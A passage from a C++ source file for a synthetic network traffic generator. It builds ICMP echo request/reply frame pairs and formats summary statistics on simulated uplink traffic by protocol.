    for (int i = 0; i < pings; ++i) {
      PacketSpec echo = p;
      echo.sport = e.v6 ? 128 : 8;  // type
      echo.dport = 0;
      echo.payload = noise(56);
      put(t, ethernetFrame(echo));
      t += r;
      std::swap(echo.src, echo.dst);
      echo.sport = e.v6 ? 129 : 0;
      put(t, ethernetFrame(echo));
      t += 1'000'000'000 - r;
    }
  }

  std::mt19937_64 rng_;
  const TrafficGenerator::FrameSink& sink_;
  std::int64_t start_;
  std::int64_t end_;
  std::array<std::uint16_t, 512> ports_{};
  std::vector<Pending> heap_;
  std::uint64_t order_ = 0;
  std::int64_t last_ts_ = std::numeric_limits<std::int64_t>::min();
  UplinkCounters counters_;
};

std::string percent(std::uint64_t part, std::uint64_t whole) {
  char buf[32];
  std::snprintf(buf, sizeof buf, "%.1f %%", whole == 0 ? 0.0 : 100.0 * static_cast<double>(part) / static_cast<double>(whole));
  return buf;
}

}  // namespace

std::string UplinkCounters::summary() const {
  return std::to_string(frames) + " frames, " + std::to_string(bytes) + " bytes; " + std::to_string(flows()) + " flows: " +
         std::to_string(dns_flows) + " DNS, " + std::to_string(http_flows) + " HTTP (" + std::to_string(http_requests) + " requests), " +
         std::to_string(tls_flows) + " TLS, " + std::to_string(smtp_flows) + " SMTP, " + std::to_string(other_flows) +
         " other; mean frame " + std::to_string(frames == 0 ? 0 : bytes / frames) + " bytes; <= 64 bytes " +
         percent(small_frames, frames) + ", full-size " + percent(full_frames, frames) + "; IPv6 " + percent(ipv6_frames, frames) +
         ", VLAN " + percent(vlan_frames, frames) + "; out of time order " + std::to_string(out_of_order);
}

double uplinkSecondsForBytes(std::uint64_t bytes) { return static_cast<double>(bytes) / kUplinkBytesPerSecond; }

UplinkCounters generateUplink(std::uint64_t seed, const UplinkOptions& options, const TrafficGenerator::FrameSink& sink,
                              std::int64_t start_ns) {
  return UplinkBuilder(seed, options, sink, start_ns).run();
}

}  // namespace gsoc::traffic
